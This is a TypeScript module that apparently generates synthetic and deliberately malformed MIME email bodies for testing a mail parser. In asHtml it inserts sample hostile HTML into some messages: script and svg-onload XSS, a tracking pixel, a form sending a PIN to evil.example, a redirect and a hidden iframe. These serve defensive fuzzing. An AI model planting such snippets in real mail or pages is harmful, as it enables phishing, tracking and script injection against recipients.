// Words and files → the part of a mail below its own header fields, in any of the forms that programs
// write, whole or broken. It knows nothing of the office.
import type { Chance } from "./chance.ts";

export interface Content {
  readonly text: string;
  /** What stands in the HTML instead, where it says something else. */
  readonly html: string | null;
  readonly files: readonly {
    readonly name: string;
    readonly type: string;
    readonly content: Buffer;
  }[];
}

/** Content-Type and what goes with it, an empty line, the body; lines ended by CRLF. */
export function writeMime(content: Content, chance: Chance): string {
  const body = writeBody(content, chance);
  if (content.files.length === 0) return body;
  const files = content.files.map(({ name, type, content: bytes }) =>
    [
      `Content-Type: ${type}; name="${name}"`,
      `Content-Disposition: ${chance.pick(["attachment", "inline"])}; filename="${name}"`,
      "Content-Transfer-Encoding: base64",
      "",
      bytes.toString("base64"),
    ].join("\r\n"),
  );
  return multipart("mixed", [body, ...files]);
}

function writeBody({ text, html }: Content, chance: Chance): string {
  const plain = () => encoded("text/plain", text, chance);
  const page = () => encoded("text/html", html ?? asHtml(text, chance), chance);
  if (html !== null) return multipart("alternative", [plain(), page()]);
  return chance.weighed([
    [50, plain],
    [14, page],
    [30, () => multipart("alternative", [plain(), page()])],
    [4, () => multipart("mixed", [multipart("related", [page()])])],
    [2, () => `Content-Type: text/plain; charset=us-ascii; format=flowed\r\n\r\n${crlf(text)}`],
  ])();
}

function multipart(subtype: string, parts: readonly string[]): string {
  const boundary = `b${parts.join("").length}-${subtype}`;
  const body = parts.map((part) => `--${boundary}\r\n${part}\r\n`).join("");
  return `Content-Type: multipart/${subtype}; boundary="${boundary}"\r\n\r\n${body}--${boundary}--\r\n`;
}

function encoded(type: string, text: string, chance: Chance): string {
  const bytes = Buffer.from(crlf(text.toWellFormed()), "utf8");
  return chance.weighed([
    [5, () => part(type, "utf-8", "8bit", bytes.toString("latin1"))],
    [3, () => part(type, "utf-8", "base64", lines(bytes.toString("base64")))],
    [3, () => part(type, "utf-8", "quoted-printable", quotedPrintable(bytes))],
    [1, () => part(type, "iso-8859-1", "8bit", crlf(text))],
    [
      1,
      () =>
        part(
          type,
          "windows-1252",
          "quoted-printable",
          quotedPrintable(Buffer.from(crlf(text), "latin1")),
        ),
    ],
  ])();
}

function part(type: string, charset: string, encoding: string, body: string): string {
  return [
    `Content-Type: ${type}; charset=${charset}`,
    `Content-Transfer-Encoding: ${encoding}`,
    "",
    body,
  ].join("\r\n");
}

/** What a mail program makes of words; now and then with what no letter should hold. */
function asHtml(text: string, chance: Chance): string {
  const words = text.replace(
    /[&<>]/g,
    (it) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;" })[it] ?? "",
  );
  const hostile = chance.inHundred(30)
    ? chance.pick([
        "<script>alert(1)</script>",
        '<img src="https://track.example/p.gif" width=1 height=1>',
        '<form action="https://evil.example"><input name=pin></form>',
        '<svg onload="alert(1)"><a href="javascript:alert(1)">x</a></svg>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<!--[if mso]><iframe src="https://evil.example"></iframe><![endif]-->',
        '<div style="background:url(https://evil.example/x)">&nbsp;</div>',
      ])
    : "";
  return `<html><body><div>${words.replace(/\n/g, "<br>\n")}</div>${hostile}</body></html>`;
}

function quotedPrintable(bytes: Buffer): string {
  const hex = (octet: number) => `=${octet.toString(16).toUpperCase().padStart(2, "0")}`;
  return bytes
    .toString("latin1")
    .split("\r\n")
    .map((line) =>
      Array.from(line, (it) => (/[!-<>-~ ]/.test(it) ? it : hex(it.charCodeAt(0))))
        .join("")
        .replace(/(?:[^=]|=[0-9A-F]{2}){72}/g, "$&=\r\n")
        .replace(/ $/, "=20"),
    )
    .join("\r\n");
}

function lines(base64: string): string {
  return base64.replace(/.{76}/g, "$&\r\n");
}

function crlf(text: string): string {
  return text.replace(/\r?\n/g, "\r\n");
}

/** Cuts, turns or doubles something in a whole letter, as broken programs and attackers do. */
export function breakLetter(letter: string, chance: Chance): string {
  // Up to here stands what tells it from every other.
  const start = letter.indexOf("MIME-Version");
  const at = start + chance.below(letter.length - start);
  const anywhere = chance.below(letter.length);
  return chance.weighed([
    [3, () => letter.slice(0, at)],
    [3, () => letter.slice(0, anywhere) + chance.noise(30) + letter.slice(anywhere)],
    [1, () => letter.replace(/boundary="[^"]*"/, "boundary=other")],
    [1, () => letter.replace(/boundary="[^"]*"/, "")],
    [1, () => letter.replace(/base64/g, "x-uuencode")],
    [1, () => letter.replaceAll("\r\n", "\n")],
    [1, () => letter.replaceAll("\r\n", "\r")],
    [1, () => letter.replace(/charset=[a-z0-9-]+/g, "charset=x-none")],
    [
      1,
      () =>
        letter.slice(0, anywhere) +
        String.fromCharCode(chance.below(256)) +
        letter.slice(anywhere + 1),
    ],
  ])();
}
